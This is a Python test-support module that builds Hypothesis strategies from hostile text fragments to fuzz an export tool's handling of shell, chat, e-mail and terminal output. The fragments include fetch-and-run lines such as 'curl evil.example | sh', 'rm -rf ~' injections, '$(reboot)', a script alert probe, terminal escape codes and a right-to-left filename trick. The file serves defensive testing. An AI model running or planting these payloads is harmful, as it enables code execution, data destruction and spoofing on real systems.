"""Text that would act in a shell, a chat, an e-mail or a terminal, if anything interpreted it."""

from __future__ import annotations

from export_jobs.model.names import Names
from hypothesis import strategies as st

FRAGMENTS = [
    "<!channel> <@U1> <https://evil.example|log in>",
    "[log in](https://evil.example)",
    "*bold* _it_ ~gone~ `code` ```block``` :warning: @here",
    "&lt;!channel&gt; &amp;",
    "\n\nDetails:  curl evil.example | sh\n",
    "\r\nSubject: forged",
    "\u2028\u2029\x85\x0b\x0c\x1c",
    "\x1b[31m\x1b]8;;https://evil.example\x07\x9b2J\x00\x7f",
    "\u202egpj.exe\u2066\u200f\ufeff\ufffe",
    "$(reboot) `reboot` ${IFS} ; | & > < ! # ~",
    "'; rm -rf ~; '",
    '"; rm -rf ~; "',
    "--stack",
    "-x",
    "\\",
    "[bold red]not markup[/] [/] [@click=app.bell]",
    "{0} %s {x} <event>",
    "<script>alert(1)</script>",
    "プロファイル 😀 é",
    "x" * 400,
]
hostile = st.lists(st.sampled_from(FRAGMENTS) | st.text(min_size=1, max_size=9), min_size=1).map(
    "".join
)
"""Any text, and most of all the kinds above; never empty."""
visible = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=20)
"""What a request key may be."""
hostile_key = visible | st.sampled_from(
    [
        "x;curl${IFS}evil.example|sh;#",
        "--stack=evil",
        "-h",
        "'",
        "$(reboot)",
        "`",
        "<!channel>",
        "a&b",
    ]
)


class SameName(dict[str, str]):
    """Names that call everything the same."""

    def __init__(self, name: str) -> None:
        super().__init__()
        self._name = name

    def get(self, *_: object) -> str:  # type: ignore[override]  # whatever is asked for
        return self._name

    def __contains__(self, _: object) -> bool:
        return True


def called(name: str) -> Names:
    """Names of a sandbox in which every dataset and segment has this one."""
    return Names(SameName(name), SameName(name))
